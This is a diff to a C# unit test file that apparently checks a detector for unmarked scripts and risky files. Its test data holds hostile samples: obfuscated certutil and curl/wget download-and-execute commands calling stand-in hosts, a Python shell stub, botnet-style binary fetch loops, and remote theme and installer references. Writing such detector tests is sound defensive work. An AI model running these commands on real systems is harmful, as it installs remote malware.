@@ -9,10 +9,12 @@ public sealed class UnmarkedScriptTests
     [Theory]
     [InlineData("set a=cer\nset b=tutil\n%a%%b% -x http://a.example/a %TEMP%\\a\n", "application/x-bat")]
     [InlineData("curl -o %TEMP%\\x.vbs http://a.example/x.vbs\n%TEMP%\\x.vbs\n", "application/x-bat")]
-    [InlineData("import urllib.request, os\np = 'a.bin'\nurllib.request.urlretrieve('http://a.example/a', p)\nos.startfile(p)\n", "text/x-python")]
+    [InlineData("import urllib.request, os\np = 'a.bin'\nurllib.request.urlretrieve('http://a.example/a', p)\nos.startfile(p)\n",
+        "text/x-python")]
     [InlineData("import socket,os,pty\ns=socket.socket()\npty.spawn('/bin/sh')\n", "text/x-python")]
     [InlineData("Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\no.Create \"a.exe\"\n", "text/vbscript")]
-    [InlineData("cd /tmp || cd /var/run; for a in arm mips; do curl -O http://192.0.2.1/$a; chmod +x $a; ./$a; done\n", "text/x-shellscript")]
+    [InlineData("cd /tmp || cd /var/run; for a in arm mips; do curl -O http://192.0.2.1/$a; chmod +x $a; ./$a; done\n",
+        "text/x-shellscript")]
     [InlineData("wget -q http://192.0.2.1/m -O /tmp/m && chmod 777 /tmp/m && /tmp/m\n", "text/x-shellscript")]
     public void Complete_ScriptWithoutAMark_IsAScript(string script, string mediaType)
     {
@@ -32,7 +34,8 @@ public sealed class UnmarkedScriptTests
 
     [Theory]
     [InlineData("[Theme]\nDisplayName=a\n[VisualStyles]\nPath=\\\\192.0.2.1\\share\\a.msstyles\n", "shortcut.remote")]
-    [InlineData("<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\" Uri=\"http://a.example/a\"/>",
+    [InlineData("<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\" "
+        + "Uri=\"http://a.example/a\"/>",
         "xml.starter")]
     [InlineData("<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" "
         + "w:macrosPresent=\"yes\"/>", "office.macro")]
